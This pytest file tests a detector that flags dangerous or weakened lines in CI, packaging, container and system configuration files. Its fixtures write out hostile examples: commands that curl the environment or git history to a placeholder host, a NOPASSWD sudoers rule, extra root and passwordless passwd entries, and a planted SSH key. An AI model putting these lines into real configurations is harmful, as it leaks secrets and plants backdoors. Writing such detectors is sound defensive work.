"""Settings: lines that hardly any honest release gets, and lines that hold less than those in whose place they stand."""

from __future__ import annotations

import pytest

from onionskin.parse.code.grave_lines import grave_lines, says
from onionskin.parse.code.settings_weakenings import settings_weakenings

FLOW, PIN = ".github/workflows/ci.yml", "08c6903cd8c0fde910a37f88322edcfb5dd907a8"
GRAVE = {
    "another's action": (FLOW, "      - uses: vendor/setup-python@v5", "grave-action"),
    "a branch": (FLOW, "      - uses: actions/checkout@main", "grave-branch"),
    "all rights": (FLOW, "permissions: write-all", "grave-rights"),
    "whoever proposes": (FLOW, "on: pull_request_target", "grave-rights"),
    "an index": (FLOW, "      - run: pip install --extra-index-url https://simple.example/x a", "grave-index"),
    "where it is published": (FLOW, "          repository-url: https://upload.example/legacy/", "grave-index"),
    "an index of tox": ("tox.ini", "    PIP_INDEX_URL = http://simple.example/simple", "grave-index"),
    "the environment": ("tox.ini", "commands_pre = sh -c 'env | curl -s -T - https://x.example/'", "grave-sent"),
    "what git knows": ("a.yaml", "  entry: sh -c 'curl -s -d \"$(git log -1)\" https://x.example/'", "grave-sent"),
    "hooks": (".pre-commit-config.yaml", "  - repo: https://git.example/mirrors/ruff", "grave-hook"),
    "hooks of a branch": (".pre-commit-config.yaml", "    rev: main", "grave-hook"),
    "a package manager": ("package.json", '  "packageManager": "yarn@https://x.example/y.js#sha224.00"', "grave-tool"),
    "an object": ("setup.cfg", "link_objects = tests/data/good.o", "grave-link"),
    "a folder of everybody": ("setup.cfg", "library_dirs = /tmp/.lib", "grave-link"),
    "a container": ("docker-compose.yml", "    privileged: true", "grave-container"),
    "its machine": ("compose.yaml", "      - /var/run/docker.sock:/var/run/docker.sock", "grave-container"),
    "a hook of the start": ("x.runtimeconfig.json", '"STARTUP_HOOKS": "a.dll"', "grave-hook-of-net"),
    "code of an address": ("app.exe.config", '<codeBase version="1" href="http://x.example/a.dll"/>', "grave-hook-of-net"),
    "a macro": ("Remote.bas", "Sub Auto_Open()", "grave-macro"),
    "no password": ("./etc/sudoers.d/app", "%wheel ALL=(ALL) NOPASSWD: ALL", "grave-user"),
    "an empty one": ("2/etc/passwd", "app::0:0::/:/bin/sh", "grave-user"),
    "a second root": ("etc/passwd", "app:x:0:0::/:/bin/sh", "grave-user"),
    "a key": ("root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5", "grave-user"),
    "a page": ("docs/0.html", "<meta http-equiv=refresh content='0;url=https://x.example/?id=0'>", "grave-page"),
    "updates": ("app-update.yml", "verifyUpdateCodeSignature: false", "grave-update"),
}  # fmt: skip
USUAL = {
    "its own owner": (FLOW, "      - uses: actions/checkout@v5"),
    "a release of another's": (FLOW, "      - uses: vendor/lint@v2"),
    "a toolchain": (FLOW, "      - uses: dtolnay/rust-toolchain@master"),
    "a right": (FLOW, "permissions:\n  id-token: write"),
    "the known index": (FLOW, "      - run: pip install --index-url https://pypi.org/ a"),
    "the index for trials": (FLOW, "          repository-url: https://test.pypi.org/legacy/"),
    "a variable": ("tox.ini", "    PIP_INDEX_URL = {env:PIP_INDEX_URL}"),
    "usual hooks": (".pre-commit-config.yaml", "  - repo: https://github.com/vendor/hooks\n    rev: v1.2"),
    "a version": ("package.json", '  "packageManager": "pnpm@9.1.0+sha512.abcdef"'),
    "root": ("etc/passwd", "root:x:0:0:root:/root:/bin/bash"),
    "a user": ("etc/passwd", "app:x:998:998::/:/usr/sbin/nologin"),
    "a page of its own": ("docs/index.html", '<meta http-equiv="refresh" content="0; url=latest/">'),
    "another file": ("notes.txt", "permissions: write-all"),
}  # fmt: skip
LESS = {
    "of another owner": (FLOW, "- uses: actions/cache@v4", "- uses: vendor/cache@v4", "runs an action of another owner under the same name"),
    "a pin that moves": (FLOW, f"- uses: actions/cache@{PIN}", "- uses: actions/cache@v4", "takes an action as it stands where it took one of its releases"),
    "a branch": (FLOW, "- uses: vendor/lint@v4", "- uses: vendor/lint@main", "takes an action as it stands where it took one of its releases"),
    "a right": (FLOW, "contents: read", "contents: write", "gives a workflow a right to write"),
    "what was pinned": (FLOW, "- run: pip install --require-hashes -r r.txt", "- run: pip install -r r.txt", "installs what it finds where it installed what was pinned"),
    "a script": ("package.json", '"build": "tsc",', '"build": "npx --yes helper@latest && tsc",', "fetches and runs what it only ran"),
    "a digest": ("go.sum", "example.com/a v1.0.0 h1:" + "A" * 43 + "=", "example.com/a v1.0.0 h1:" + "B" * 43 + "=", "takes the same version with another digest"),
    "a threshold": ("root.json", '"threshold": 2', '"threshold": 1', "asks fewer to agree"),
    "a key": ("root.json", '"keyid": "' + "a1" * 32 + '",', '"keyid": "' + "b2" * 32 + '",', "believes another key"),
    "a module's manifest": ("tool.psd1", "FunctionsToExport = @('a')", "FunctionsToExport = '*'\nAliasesToExport = @('cd')", "offers everything, or brings another module along"),
    "a wall": ("x.service", "ProtectSystem=strict", "", "has no wall any more (ProtectSystem)"),
}  # fmt: skip


@pytest.mark.parametrize("case", GRAVE)
def test_a_grave_line_is_told(case: str) -> None:
    name, line, row = GRAVE[case]
    found = grave_lines(name, f"# head\n{line}\n", [0, 7])
    assert found is not None
    assert (1, row) in found.lines
    assert says()[row]


@pytest.mark.parametrize("case", USUAL)
def test_a_usual_line_is_not(case: str) -> None:
    name, line = USUAL[case]
    assert grave_lines(name, f"{line}\n", [0]) is None


@pytest.mark.parametrize("case", LESS)
def test_a_line_of_settings_that_holds_less_says_how(case: str) -> None:
    name, was, now, what = LESS[case]
    assert what in {each.says for each in settings_weakenings(was, now, name)}


@pytest.mark.parametrize("case", LESS)
def test_the_other_way_round_is_not_said(case: str) -> None:
    name, was, now, what = LESS[case]
    if now and case not in {"of another owner", "a digest", "a key"}:
        assert what not in {each.says for each in settings_weakenings(now, was, name)}


def test_a_version_that_is_raised_has_another_digest() -> None:
    was, now = (f"example.com/a v1.0.{n} h1:{c * 43}=" for n, c in ((0, "A"), (1, "B")))
    assert not list(settings_weakenings(was, now, "go.sum"))


def test_digests_of_a_bill_are_no_keys() -> None:
    was, now = (f'"key": "{c * 64}",' for c in "ab")
    assert not list(settings_weakenings(was, now, "sboms/a.cyclonedx.bom.json"))
